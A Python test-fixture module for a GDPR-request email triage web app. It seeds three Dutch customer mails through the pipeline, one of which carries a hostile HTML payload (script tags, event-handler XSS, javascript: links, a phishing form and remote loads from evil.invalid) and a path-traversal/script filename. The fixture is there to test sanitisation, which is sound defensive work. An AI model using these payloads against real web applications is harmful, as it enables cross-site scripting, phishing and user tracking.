"""Shared test data for the web tests: a keyword classifier standing in for the trained
model, customer mails (one with hostile HTML), seeding through the real pipeline."""

from __future__ import annotations

import re
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path
from typing import Any

from sqlalchemy.engine import Engine
from sqlmodel import Session

from avgdesk.classifiers import Document, Prediction
from avgdesk.triage.intake.local import store_local_message
from avgdesk.triage.intake.processing import Processor
from avgdesk.triage.settings import Settings, load_settings
from avgdesk.web.users import add_user

PASSWORDS = {
    "mw": "medewerker-wachtwoord",
    "goedkeurder": "goedkeurder-wachtwoord",
    "beheer": "beheerder-wachtwoord",
}

_RULES: list[tuple[str, re.Pattern[str], str]] = [
    ("access", re.compile(r"inzage|welke gegevens|kopie van mijn gegevens", re.I), "inzage"),
    ("erasure", re.compile(r"verwijder|wissen|vergeten", re.I), "verwijder"),
    ("rectification", re.compile(r"corrig|onjuist|verbeter", re.I), "corrigeer"),
    ("objection", re.compile(r"bezwaar|nieuwsbrief", re.I), "bezwaar"),
    ("complaint", re.compile(r"klacht", re.I), "klacht"),
]


class KeywordClassifier:
    """A deterministic stand-in for the trained model (which takes ~45 s to train)."""

    version = "test-keywords"

    def predict(self, docs: Sequence[Document]) -> list[Prediction]:
        out = []
        for d in docs:
            text = f"{d.subject}\n{d.text}"
            labels = [label for label, rx, _ in _RULES if rx.search(text)]
            scores = {label: (0.91 if label in labels else 0.04) for label, _, _ in _RULES}
            explanations = {label: [word] for label, rx, word in _RULES if label in labels}
            if not labels:
                labels = ["question"]
                scores["question"] = 0.8
                explanations["question"] = ["vraag"]
            lang = "en" if re.search(r"\b(the|my|please)\b", text, re.I) else "nl"
            out.append(
                Prediction(
                    labels=labels,
                    scores=scores,
                    needs_review=False,
                    language=lang,
                    explanations=explanations,
                    model_version=self.version,
                )
            )
        return out


def raw_mail(
    *,
    sender: str,
    subject: str,
    text: str,
    html: str | None = None,
    attachment: tuple[str, bytes, str] | None = None,
    when: datetime | None = None,
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "privacy@nhmbsoftware.nl"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(when or datetime.now(UTC))
    msg["Message-ID"] = make_msgid(domain="example.nl")
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    if attachment is not None:
        name, data, ctype = attachment
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


HOSTILE_HTML = """<html><head>
<base href="http://evil.invalid/">
<meta http-equiv="refresh" content="0;url=http://evil.invalid/meta">
<link rel="stylesheet" href="http://evil.invalid/style.css">
<style>body { background: url(http://evil.invalid/bg.png) } @import url(http://evil.invalid/imp.css);</style>
<script>alert('script')</script>
</head><body>
<p onclick="alert('click')">Ik wil graag inzage in mijn gegevens.</p>
<img src="http://evil.invalid/pixel.png" onerror="alert('onerror')">
<img src="x" onerror="alert('onerror2')">
<img srcset="http://evil.invalid/srcset.png 1x" alt="srcset">
<a href="javascript:alert('js')">klik hier</a>
<a href="https://example.nl/echte-link">mijn website</a>
<div style="background-image:url(http://evil.invalid/div.png)">stijl</div>
<svg><image href="http://evil.invalid/svg.png"></image><script>alert('svg')</script></svg>
<iframe src="http://evil.invalid/frame"></iframe>
<video poster="http://evil.invalid/poster.png"></video>
<form action="http://evil.invalid/phish"><input name="pw"></form>
<object data="http://evil.invalid/obj"></object>
</body></html>"""


def make_web_settings(tmp_path: Path, db_url: str | None = None) -> Settings:
    return load_settings(
        None,
        data_dir=tmp_path / "data",
        database_url=db_url or f"sqlite:///{tmp_path / 'web.sqlite3'}",
    )


def seed(engine: Engine, settings: Settings) -> dict[str, Any]:
    """Three customer mails (one with hostile HTML and an attachment), processed into cases."""
    now = datetime.now(UTC)
    mails = [
        raw_mail(
            sender="Jan de Vries <jan.devries@example.nl>",
            subject="Inzageverzoek",
            text="Ik wil graag inzage in welke gegevens u van mij verwerkt.",
            when=now - timedelta(days=40),
        ),
        raw_mail(
            sender="Fatima el Amrani <fatima@example.nl>",
            subject="Verwijder mijn account",
            text="Wilt u mijn gegevens verwijderen? Ik ben klant nr 4411.",
            html=HOSTILE_HTML,
            attachment=("../../etc/passwd<script>.pdf", b"%PDF-1.4 fake pdf", "application/pdf"),
            when=now - timedelta(days=27),
        ),
        raw_mail(
            sender="Piet Bakker <piet@example.nl>",
            subject="Klacht over nieuwsbrief",
            text="Ik maak bezwaar tegen uw nieuwsbrief en dien een klacht in.",
            when=now - timedelta(days=1),
        ),
    ]
    for raw, when in zip(mails, (40, 27, 1), strict=True):
        store_local_message(engine, raw, source="imap", received_at=now - timedelta(days=when))
    Processor(engine, settings, classifier=KeywordClassifier()).drain()
    with Session(engine) as session:
        for name, role in (("mw", "medewerker"), ("goedkeurder", "approver"), ("beheer", "admin")):
            add_user(session, name, role, PASSWORDS[name], by="test")
        session.commit()
    return {}
